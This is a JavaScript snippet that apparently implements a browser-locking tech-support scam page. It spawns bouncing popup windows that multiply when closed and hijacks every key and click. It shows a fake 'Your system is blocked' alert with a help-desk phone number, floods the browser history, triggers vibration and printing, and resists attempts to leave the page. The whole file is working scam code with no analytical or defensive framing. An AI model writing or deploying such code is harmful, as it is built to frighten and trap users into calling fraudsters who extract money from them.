const W = 480, H = 260, kids = [];
function spawn() {
  const w = window.open(location.pathname + '?c=1', '', `menubar=no,status=no,toolbar=no,width=${W},height=${H},left=${Math.random() * 500},top=${Math.random() * 300}`);
  if (!w) return;
  let vx = 15, vy = 15;
  kids.push(w);
  setInterval(() => {
    if (w.closed) { spawn(); spawn(); return; }
    if (w.screenX < 0 || w.screenX + W > screen.availWidth) vx = -vx;
    if (w.screenY < 0 || w.screenY + H > screen.availHeight) vy = -vy;
    w.moveBy(vx, vy);
  }, 50);
}
function trap(e) {
  if (e) e.preventDefault();
  spawn();
  alert('Your system is blocked.\nContact the help desk: +44 800 000 000');
  for (let i = 0; i < 100; i++) history.pushState({}, '', '?' + i);
  if (navigator.vibrate) navigator.vibrate(1000);
  window.print();
}
document.addEventListener('keydown', trap);
document.addEventListener('click', trap);
window.addEventListener('beforeunload', (e) => { spawn(); e.returnValue = 'locked'; });
setInterval(() => kids.forEach((k) => k.focus()), 1000);
